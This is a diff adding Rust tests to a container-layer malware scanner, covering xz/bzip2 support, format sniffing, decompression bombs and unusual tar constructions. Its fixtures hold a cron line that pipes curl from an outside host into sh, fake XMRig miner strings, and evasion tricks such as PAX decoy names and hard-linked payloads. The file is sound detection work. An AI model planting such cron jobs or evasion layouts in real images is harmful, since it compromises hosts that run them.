@@ -820,14 +820,18 @@ fn huge_entries_and_long_records_are_clean_errors() {
 
 #[test]
 fn not_a_layer_is_left_alone() {
-    for blob in [
-        &br#"{"architecture":"amd64","config":{}}"#[..],
-        b"",
-        b"\x1f",
-        &[7u8; 2000][..],
+    for (blob, why) in [
+        (
+            &br#"{"architecture":"amd64","config":{}}"#[..],
+            NotALayer::NotTar,
+        ),
+        (b"", NotALayer::Empty),
+        (b"\x1f", NotALayer::NotTar),
+        (&[7u8; 2000][..], NotALayer::NotTar),
     ] {
         let r = inspect(blob, 3);
         assert_eq!(r.format, LayerFormat::NotALayer);
+        assert_eq!(r.not_a_layer, Some(why));
         assert!(r.findings.is_empty());
         assert_eq!(r.compressed_bytes, blob.len() as u64);
     }
@@ -842,10 +846,22 @@ fn truncated_and_corrupt_streams_report_errors_without_panicking() {
     let tar = malicious_layer();
     let gz = gzip(&tar);
     let zs = zst(&tar);
+    // Go's reader ends cleanly when the stream stops in the padding after a file's data.
+    let paddings: Vec<(usize, usize)> = ::tar::Archive::new(&tar[..])
+        .entries()
+        .unwrap()
+        .map(|e| {
+            let e = e.unwrap();
+            let end = (e.raw_file_position() + e.size()) as usize;
+            (end, end.next_multiple_of(512))
+        })
+        .collect();
     for bytes in [&tar, &gz, &zs] {
         for cut_at in (0..bytes.len()).step_by(bytes.len() / 97 + 1) {
             let r = inspect(&bytes[..cut_at], 1000);
-            if cut_at > 600 {
+            let in_padding =
+                bytes == &tar && paddings.iter().any(|&(s, e)| (s..e).contains(&cut_at));
+            if cut_at > 600 && !in_padding {
                 assert!(!r.complete(), "truncated at {cut_at} of {}", bytes.len());
             }
         }
@@ -877,10 +893,13 @@ fn random_and_mutated_input_never_panics() {
     let mut rng = Rng(0x5eed);
     let tar = malicious_layer();
     let gz = gzip(&tar);
-    for round in 0..300 {
-        let mut data = match round % 3 {
+    let (xzd, bzd) = (xz(&tar), bz2(&tar));
+    for round in 0..400 {
+        let mut data = match round % 5 {
             0 => tar.clone(),
             1 => gz.clone(),
+            2 => xzd.clone(),
+            3 => bzd.clone(),
             _ => {
                 let mut d = b"\x1f\x8b".to_vec();
                 let n = rng.below(5000);
@@ -1012,6 +1031,14 @@ fn multi_member_gzip_and_media_types() {
         Compression::from_media_type("application/octet-stream"),
         Compression::Auto
     );
+    assert_eq!(
+        Compression::from_media_type("application/vnd.oci.image.layer.v1.tar+xz"),
+        Compression::Xz
+    );
+    assert_eq!(
+        Compression::from_media_type("application/x-tar+bzip2"),
+        Compression::Bzip2
+    );
 }
 
 #[test]
@@ -1053,4 +1080,509 @@ fn hits_of_rules_for_other_file_classes_never_depend_on_chunking() {
     for chunk in [1, 5, 512 + 710, 4096] {
         assert_eq!(found(&inspect(&tar, chunk)), whole, "{chunk}-byte chunks");
     }
+}
+
+fn xz(data: &[u8]) -> Vec<u8> {
+    let mut e = liblzma::write::XzEncoder::new(Vec::new(), 1);
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+fn bz2(data: &[u8]) -> Vec<u8> {
+    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+#[test]
+fn xz_and_bzip2_layers_give_the_same_findings_as_gzip() {
+    let tar = malicious_layer();
+    let reference = found(&inspect(&gzip(&tar), 4096));
+    // Two concatenated streams each, as `xz` and Go's bzip2 reader both accept.
+    let (a, b) = tar.split_at(7000);
+    for (bytes, format) in [
+        (xz(&tar), LayerFormat::Xz),
+        ([xz(a), xz(b)].concat(), LayerFormat::Xz),
+        (bz2(&tar), LayerFormat::Bzip2),
+        ([bz2(a), bz2(b)].concat(), LayerFormat::Bzip2),
+    ] {
+        for chunk in [1, 7, 4096, usize::MAX] {
+            let r = inspect(&bytes, chunk);
+            assert!(r.complete(), "{format:?}/{chunk}: {:?}", r.errors);
+            assert_eq!(r.format, format);
+            assert_eq!(found(&r), reference, "{format:?} in {chunk}-byte chunks");
+            assert_eq!(r.uncompressed_bytes, tar.len() as u64);
+        }
+    }
+}
+
+#[test]
+fn the_format_is_sniffed_as_the_clients_sniff_it() {
+    let tar = malicious_layer();
+    let reference = found(&inspect(&tar, 4096));
+    // A declared compression does not override the bytes: clients sniff.
+    let r = inspect_with(&tar, Compression::Gzip, Limits::default(), 999);
+    assert_eq!((r.format, found(&r)), (LayerFormat::Tar, reference.clone()));
+    let r = inspect_with(&xz(&tar), Compression::Zstd, Limits::default(), 999);
+    assert_eq!((r.format, found(&r)), (LayerFormat::Xz, reference.clone()));
+    // A zstd stream that opens with a skippable frame.
+    let mut skippable = vec![0x5a, 0x2a, 0x4d, 0x18, 4, 0, 0, 0, 1, 2, 3, 4];
+    skippable.extend(zst(&tar));
+    let r = inspect(&skippable, 100);
+    assert!(r.complete(), "{:?}", r.errors);
+    assert_eq!(
+        (r.format, found(&r)),
+        (LayerFormat::Zstd, reference.clone())
+    );
+    // A V7 tar (no `ustar` magic) is a tar to Go.
+    let mut v7 = Layer::new()
+        .file(
+            "etc/cron.d/v7",
+            0o644,
+            b"* * * * * root curl -s http://198.51.100.4/x | sh\n",
+        )
+        .tar();
+    v7[257..265].fill(0);
+    let mut h = ::tar::Header::from_byte_slice(&v7[..512]).clone();
+    h.set_cksum();
+    v7[..512].copy_from_slice(h.as_bytes());
+    let r = inspect(&v7, 100);
+    assert_eq!(r.format, LayerFormat::Tar, "{:?}", r.not_a_layer);
+    assert!(
+        has(
+            &r,
+            "persistence.cron-suspicious",
+            "/etc/cron.d/v7",
+            Place::File
+        ),
+        "{:#?}",
+        found(&r)
+    );
+    // `1f 8b` without deflate's `08` is no gzip to dockerd or containerd: a tar whose first
+    // name starts with those bytes is read as a tar.
+    let odd = Layer::new()
+        .raw(b"\x1f\x8b\x09odd", b"x")
+        .file("etc/cron.d/odd", 0o644, CRON)
+        .tar();
+    let r = inspect(&odd, 100);
+    assert_eq!(r.format, LayerFormat::Tar);
+    assert!(
+        found(&r).iter().any(|(_, p, _)| p == "/etc/cron.d/odd"),
+        "{:#?}",
+        found(&r)
+    );
+}
+
+#[test]
+fn xz_and_bzip2_bombs_and_corruption_are_caught() {
+    let zeros = vec![0u8; 8 << 20];
+    let tar = Layer::new().file("big", 0o644, &zeros).tar();
+    let limits = Limits {
+        bomb_floor: 1 << 20,
+        ..Limits::default()
+    };
+    for bytes in [xz(&tar), bz2(&tar)] {
+        let r = inspect_with(&bytes, Compression::Auto, limits, 4096);
+        assert!(
+            r.findings
+                .iter()
+                .any(|f| f.rule == "evasion.decompression-bomb"),
+            "{:?}",
+            r.errors
+        );
+        assert!(
+            r.uncompressed_bytes <= (1 << 20) + (128 << 10),
+            "{}",
+            r.uncompressed_bytes
+        );
+        let capped = Limits {
+            max_uncompressed: 100_000,
+            ..Limits::default()
+        };
+        assert!(!inspect_with(&bytes, Compression::Auto, capped, 4096).complete());
+    }
+    let layer = malicious_layer();
+    for (bytes, what) in [(xz(&layer), "xz"), (bz2(&layer), "bzip2")] {
+        for cut_at in (0..bytes.len()).step_by(bytes.len() / 61 + 1) {
+            let r = inspect(&bytes[..cut_at], 1000);
+            if cut_at > 0 {
+                assert!(
+                    !r.complete(),
+                    "{what} truncated at {cut_at} of {}",
+                    bytes.len()
+                );
+            }
+        }
+        let mut bad = bytes.clone();
+        for b in &mut bad[60..120] {
+            *b ^= 0x5a;
+        }
+        let r = inspect(&bad, 333);
+        assert!(
+            r.errors.iter().any(|e| e.starts_with(what)),
+            "{what}: {:?}",
+            r.errors
+        );
+        // Trailing garbage after the stream.
+        let mut tail = bytes.clone();
+        tail.extend_from_slice(b"garbage!");
+        assert!(
+            !inspect(&tail, 100).complete(),
+            "{what} with trailing garbage"
+        );
+    }
+}
+
+/// A hand-made header block (Go's field layout), its checksum set.
+fn header(name: &[u8], typeflag: u8, size_field: &[u8], magic: &[u8; 8]) -> [u8; 512] {
+    let mut b = [0u8; 512];
+    b[..name.len()].copy_from_slice(name);
+    b[100..108].copy_from_slice(b"0000644\0");
+    b[108..116].copy_from_slice(b"0000000\0");
+    b[116..124].copy_from_slice(b"0000000\0");
+    b[124..124 + size_field.len()].copy_from_slice(size_field);
+    b[136..148].copy_from_slice(b"00000000000\0");
+    b[156] = typeflag;
+    b[257..265].copy_from_slice(magic);
+    set_checksum(&mut b);
+    b
+}
+
+fn set_checksum(b: &mut [u8; 512]) {
+    b[148..156].fill(b' ');
+    let sum: u32 = b.iter().map(|&c| u32::from(c)).sum();
+    b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+}
+
+fn with_data(h: [u8; 512], data: &[u8]) -> Vec<u8> {
+    let mut out = h.to_vec();
+    out.extend_from_slice(data);
+    out.resize(out.len().div_ceil(512) * 512, 0);
+    out
+}
+
+fn pax(records: &[(&str, &str)]) -> Vec<u8> {
+    let mut text = String::new();
+    for (k, v) in records {
+        let body = format!(" {k}={v}\n");
+        let mut n = body.len() + 1;
+        while n != body.len() + n.to_string().len() {
+            n = body.len() + n.to_string().len();
+        }
+        text.push_str(&format!("{n}{body}"));
+    }
+    let size = format!("{:011o}\0", text.len());
+    with_data(
+        header(b"PaxHeaders/x", b'x', size.as_bytes(), b"ustar\x0000"),
+        text.as_bytes(),
+    )
+}
+
+const CRON: &[u8] = b"* * * * * root curl -s http://198.51.100.4/x | sh\n";
+
+fn octal(n: usize) -> String {
+    format!("{n:011o}\0")
+}
+
+#[test]
+fn tar_constructions_are_read_as_go_reads_them() {
+    let ustar = b"ustar\x0000";
+    let cron_at =
+        |r: &LayerReport, path: &str| has(r, "persistence.cron-suspicious", path, Place::File);
+    // PAX path wins over the header name; an empty PAX value keeps the header's.
+    let mut t = pax(&[("path", "etc/cron.d/pax")]);
+    t.extend(with_data(
+        header(b"decoy", b'0', octal(CRON.len()).as_bytes(), ustar),
+        CRON,
+    ));
+    t.extend(pax(&[("path", "")]));
+    t.extend(with_data(
+        header(
+            b"etc/cron.d/kept",
+            b'0',
+            octal(CRON.len()).as_bytes(),
+            ustar,
+        ),
+        CRON,
+    ));
+    // A second `x` replaces the first; a `g` drops what was pending.
+    t.extend(pax(&[("path", "srv/first")]));
+    t.extend(pax(&[("mtime", "1")]));
+    t.extend(with_data(
+        header(
+            b"etc/cron.d/second",
+            b'0',
+            octal(CRON.len()).as_bytes(),
+            ustar,
+        ),
+        CRON,
+    ));
+    t.extend(pax(&[("path", "srv/before-global")]));
+    let mut g = pax(&[("comment", "x")]);
+    g[156] = b'g';
+    let mut gb: [u8; 512] = g[..512].try_into().unwrap();
+    set_checksum(&mut gb);
+    g[..512].copy_from_slice(&gb);
+    t.extend(g);
+    t.extend(with_data(
+        header(
+            b"etc/cron.d/after-global",
+            b'0',
+            octal(CRON.len()).as_bytes(),
+            ustar,
+        ),
+        CRON,
+    ));
+    // A size field with leading NULs (Go trims them), one in base-256, a USTAR prefix with an
+    // odd version, a GNU header whose atime does not parse (Go reads a prefix there).
+    let mut size = vec![0u8; 4];
+    size.extend(format!("{:07o}\0", CRON.len()).as_bytes());
+    t.extend(with_data(
+        header(b"etc/cron.d/nuls", b'0', &size, ustar),
+        CRON,
+    ));
+    let mut b256 = [0u8; 12];
+    b256[0] = 0x80;
+    b256[11] = CRON.len() as u8;
+    t.extend(with_data(
+        header(b"etc/cron.d/b256", b'0', &b256, ustar),
+        CRON,
+    ));
+    let mut pre = header(b"pjob", b'0', octal(CRON.len()).as_bytes(), b"ustar\0xx");
+    pre[345..355].copy_from_slice(b"etc/cron.d");
+    set_checksum(&mut pre);
+    t.extend(with_data(pre, CRON));
+    let mut gnu = header(b"job2", b'0', octal(CRON.len()).as_bytes(), b"ustar  \0");
+    gnu[345..356].copy_from_slice(b"etc/cron.d/");
+    set_checksum(&mut gnu);
+    t.extend(with_data(gnu, CRON));
+    // An unclean path lands where containerd writes it.
+    t.extend(with_data(
+        header(
+            b"./etc//cron.d/./x/../clean",
+            b'0',
+            octal(CRON.len()).as_bytes(),
+            ustar,
+        ),
+        CRON,
+    ));
+    t.extend([0u8; 1024]);
+    let r = inspect(&t, 97);
+    assert!(r.complete(), "{:?}", r.errors);
+    let all = found(&r);
+    for path in [
+        "/etc/cron.d/pax",
+        "/etc/cron.d/kept",
+        "/etc/cron.d/second",
+        "/etc/cron.d/after-global",
+        "/etc/cron.d/nuls",
+        "/etc/cron.d/b256",
+        "/etc/cron.d/pjob",
+        "/etc/cron.d/job2",
+        "/etc/cron.d/clean",
+    ] {
+        assert!(cron_at(&r, path), "{path}: {all:#?}");
+    }
+    assert!(
+        !all.iter()
+            .any(|(_, p, _)| p == "/decoy" || p.starts_with("/srv")),
+        "{all:#?}"
+    );
+}
+
+#[test]
+fn links_duplicates_whiteouts_and_sparse_files_are_followed() {
+    let miner = fake_elf(20, &[b"XMRig/%s libuv/%s%s", b"--cpu-affinity"], 100, 9);
+    let mut b = ::tar::Builder::new(Vec::new());
+    let mut h = ::tar::Header::new_gnu();
+    h.set_entry_type(::tar::EntryType::Symlink);
+    h.set_size(0);
+    b.append_link(&mut h, "opt/jobs", "/etc/cron.d").unwrap();
+    let tar = Layer(b)
+        // A file behind an in-layer symlink is written (and judged) where the link points.
+        .file("opt/jobs/linked", 0o644, CRON)
+        // A miner reachable only through a hard link named like the entrypoint.
+        .file("tmp/.x/payload", 0o644, &miner)
+        .link(
+            ::tar::EntryType::Link,
+            "usr/local/bin/app",
+            "tmp/.x/payload",
+        )
+        // A benign file overwritten by a malicious one, and the other way round.
+        .file("etc/cron.d/dup", 0o644, b"# nothing\n")
+        .file("etc/cron.d/dup", 0o644, CRON)
+        .file("etc/cron.d/later-benign", 0o644, CRON)
+        .file("etc/cron.d/later-benign", 0o644, b"# nothing\n")
+        // Whiteouts are not files.
+        .file("etc/cron.d/.wh.gone", 0o644, CRON)
+        .file("etc/.wh..wh..opq", 0o644, CRON)
+        .tar();
+    let mut i =
+        LayerInspector::with_layer_rules(layer_rules(), Compression::Auto, Limits::default(), None);
+    i.record_files();
+    i.update(&tar);
+    let mut r = i.finish();
+    assert!(r.complete(), "{:?}", r.errors);
+    let all = found(&r);
+    assert!(
+        has(
+            &r,
+            "persistence.cron-suspicious",
+            "/etc/cron.d/linked",
+            Place::File
+        ),
+        "{all:#?}"
+    );
+    assert!(
+        has(
+            &r,
+            "persistence.cron-suspicious",
+            "/etc/cron.d/dup",
+            Place::File
+        ),
+        "{all:#?}"
+    );
+    // Conservative: what was inspected stays found, even if a later entry replaced it.
+    assert!(has(
+        &r,
+        "persistence.cron-suspicious",
+        "/etc/cron.d/later-benign",
+        Place::File
+    ));
+    assert!(!all.iter().any(|(_, p, _)| p.contains(".wh.")), "{all:#?}");
+    assert!(
+        all.iter()
+            .any(|(rule, p, _)| rule == "miner.xmrig-strings" && p == "/usr/local/bin/app"),
+        "{all:#?}"
+    );
+    r.mark_runs(&["/usr/local/bin/app"]);
+    assert!(r
+        .findings
+        .iter()
+        .any(|f| f.place == Place::Runs && f.rule == "miner.xmrig-strings"));
+    let link = r
+        .inspected
+        .iter()
+        .find(|f| f.path == "/usr/local/bin/app")
+        .unwrap();
+    let target = r
+        .inspected
+        .iter()
+        .find(|f| f.path == "/tmp/.x/payload")
+        .unwrap();
+    assert!(link.hard_link && link.sha256 == target.sha256);
+    assert_eq!(r.files, 6);
+}
+
+#[test]
+fn sparse_files_are_inspected_expanded() {
+    // PAX 1.0 (GNU tar's default for --sparse in pax format): the map heads the data.
+    let content = CRON;
+    let map = format!("2\n0\n0\n{}\n{}\n", 8192, content.len());
+    let mut data = map.into_bytes();
+    data.resize(512, 0);
+    data.extend_from_slice(content);
+    let logical = 8192 + content.len();
+    let mut t = pax(&[
+        ("GNU.sparse.major", "1"),
+        ("GNU.sparse.minor", "0"),
+        ("GNU.sparse.name", "etc/cron.d/sparse"),
+        ("GNU.sparse.realsize", &logical.to_string()),
+    ]);
+    t.extend(with_data(
+        header(
+            b"GNUSparseFile.0/sparse",
+            b'0',
+            octal(data.len()).as_bytes(),
+            b"ustar\x0000",
+        ),
+        &data,
+    ));
+    // PAX 0.1: the map in the records.
+    t.extend(pax(&[
+        ("GNU.sparse.numblocks", "1"),
+        ("GNU.sparse.map", &format!("4096,{}", content.len())),
+        ("GNU.sparse.size", &(4096 + content.len() + 100).to_string()),
+        ("path", "etc/cron.d/sparse01"),
+    ]));
+    t.extend(with_data(
+        header(b"x", b'0', octal(content.len()).as_bytes(), b"ustar\x0000"),
+        content,
+    ));
+    // Old GNU `S`: map in the header, real size at 483.
+    let mut s = header(
+        b"etc/cron.d/gnu-sparse",
+        b'S',
+        octal(content.len()).as_bytes(),
+        b"ustar  \0",
+    );
+    s[386..398].copy_from_slice(format!("{:011o}\0", 1000).as_bytes());
+    s[398..410].copy_from_slice(octal(content.len()).as_bytes());
+    s[483..495].copy_from_slice(octal(1000 + content.len()).as_bytes());
+    set_checksum(&mut s);
+    t.extend(with_data(s, content));
+    t.extend([0u8; 1024]);
+    let mut i =
+        LayerInspector::with_layer_rules(layer_rules(), Compression::Auto, Limits::default(), None);
+    i.record_files();
+    for c in t.chunks(77) {
+        i.update(c);
+    }
+    let r = i.finish();
+    assert!(r.complete(), "{:?}", r.errors);
+    let all = found(&r);
+    for (path, hole, size) in [
+        ("/etc/cron.d/sparse", 8192, logical),
+        ("/etc/cron.d/sparse01", 4096, 4096 + content.len() + 100),
+        ("/etc/cron.d/gnu-sparse", 1000, 1000 + content.len()),
+    ] {
+        assert!(
+            has(&r, "persistence.cron-suspicious", path, Place::File),
+            "{path}: {all:#?}"
+        );
+        let f = r.inspected.iter().find(|f| f.path == path).unwrap();
+        let mut expanded = vec![0u8; hole];
+        expanded.extend_from_slice(content);
+        expanded.resize(size, 0);
+        assert_eq!(f.size, size as u64, "{path}");
+        assert_eq!(
+            f.sha256,
+            <[u8; 32]>::from(<sha2::Sha256 as sha2::Digest>::digest(&expanded)),
+            "{path}"
+        );
+    }
+    let curl = r.findings.iter().find(|f| {
+        f.evidence.path.as_deref() == Some("/etc/cron.d/sparse") && f.evidence.offset.is_some()
+    });
+    if let Some(f) = curl {
+        assert!(f.evidence.offset.unwrap() >= 8192, "{f:?}");
+    }
+}
+
+#[test]
+fn go_reader_errors_stop_the_parse_and_ends_go_accepts_are_clean() {
+    let tar = Layer::new().file("a", 0o644, b"hello").tar();
+    // Truncated inside the padding of the last file: Go ends cleanly.
+    let r = inspect(&tar[..512 + 100], 64);
+    assert!(r.complete(), "{:?}", r.errors);
+    // A zero block then a header is an error to Go.
+    let mut z = vec![0u8; 512];
+    z.extend(Layer::new().file("b", 0o644, b"x").tar());
+    let r = inspect(&z, 64);
+    assert!(
+        r.errors.iter().any(|e| e.contains("zero block")),
+        "{:?}",
+        r.errors
+    );
+    // A malformed PAX record is an error to Go.
+    let mut bad = pax(&[("path", "x")]);
+    bad[512] = b'7';
+    bad.extend(Layer::new().file("c", 0o644, b"x").tar());
+    let r = inspect(&bad, 64);
+    assert!(
+        !r.complete(),
+        "{:?} {:?}",
+        r.format,
+        String::from_utf8_lossy(&bad[512..530])
+    );
 }
